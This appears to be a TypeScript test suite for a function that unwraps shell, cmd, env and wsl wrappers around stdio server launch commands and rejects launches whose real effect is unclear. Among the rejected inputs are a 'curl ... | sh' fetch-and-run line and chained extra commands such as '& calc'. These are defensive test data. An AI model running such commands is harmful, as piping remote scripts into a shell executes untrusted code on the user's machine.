import { describe, expect, test } from 'vitest';
import { Secret } from '../text/secret.ts';
import { startedBy } from './started.ts';

const started = (command: string, args: readonly string[], env: Readonly<Record<string, string>> = {}) =>
  startedBy({
    kind: 'stdio',
    command,
    args,
    env: Object.entries(env).map(([name, value]) => ({ name, value: new Secret(value) })),
  });
const NPX = { command: 'npx', args: ['-y', '@acme/server'], variables: [] };

describe('what only passes on is looked through', () => {
  test.each<[string, readonly string[]]>([
    ['npx', ['-y', '@acme/server']],
    ['cmd', ['/c', 'npx', '-y', '@acme/server']],
    ['C:\\Windows\\System32\\cmd.exe', ['/d', '/s', '/C', 'npx -y @acme/server']],
    ['env', ['npx', '-y', '@acme/server']],
    ['sh', ['-c', 'npx -y @acme/server']],
    ['/bin/bash', ['-lc', 'exec npx -y "@acme/server"']],
    ['wsl.exe', ['bash', '-c', 'npx -y @acme/server']],
    ['wsl', ['-e', 'npx', '-y', '@acme/server']],
  ])('%s %j', (command, args) => expect(started(command, args)).toEqual(NPX));

  test('variables are kept, those of the entry first', () => {
    expect(started('env', ['B=2', 'sh', '-c', 'C=3 npx -y @acme/server'], { A: '1' })?.variables).toEqual([
      { name: 'A', value: '1' },
      { name: 'B', value: '2' },
      { name: 'C', value: '3' },
    ]);
  });

  test('Windows paths among the words of cmd stay as they are', () => {
    const args = ['/c', 'npx', '-y', '@acme/server', 'C:\\Users\\me\\My files'];
    expect(started('cmd', args)?.args).toEqual(args.slice(2));
  });
});

describe('what runs cannot be told', () => {
  test.each<[string, readonly string[]]>([
    ['sh', ['-c', 'curl tools.example | sh; npx -y @acme/server']],
    ['sh', ['-c', 'npx -y @acme/server && x']],
    ['sh', ['-c', 'npx -y $PACKAGE']],
    ['sh', ['-c']],
    ['sh', ['-c', 'npx -y @acme/server', 'x']],
    ['bash', ['-ic', 'npx -y @acme/server']],
    ['bash', ['--rcfile', 'x', '-c', 'npx -y @acme/server']],
    ['cmd', ['/k', 'npx', '-y', '@acme/server']],
    ['cmd', ['/c', 'npx', '-y', '@acme/server', '&', 'calc']],
    ['cmd', ['/c', 'npx', '-y', '%PACKAGE%']],
    ['cmd', []],
    ['wsl', ['npx', '-y', '@acme/server', ';', 'x']],
    ['wsl', ['-d', 'Other', 'npx', '-y', '@acme/server']],
    ['env', ['-S', 'npx -y @acme/server']],
    ['env', ['A=1']],
    ['sh', ['-c', 'A=1']],
    ['env', ['env', 'env', 'env', 'env', 'npx', '-y', '@acme/server']],
  ])('%s %j', (command, args) => expect(started(command, args)).toBeNull());
});

test.each<[string, readonly string[]]>([
  ['bash', ['scripts/start.sh']],
  ['./env', ['npx', '-y', '@acme/server']],
  ['./sh', ['-c', 'npx -y @acme/server']],
])('%s %j is a program of its own', (command, args) => {
  expect(started(command, args)).toEqual({ command, args, variables: [] });
});
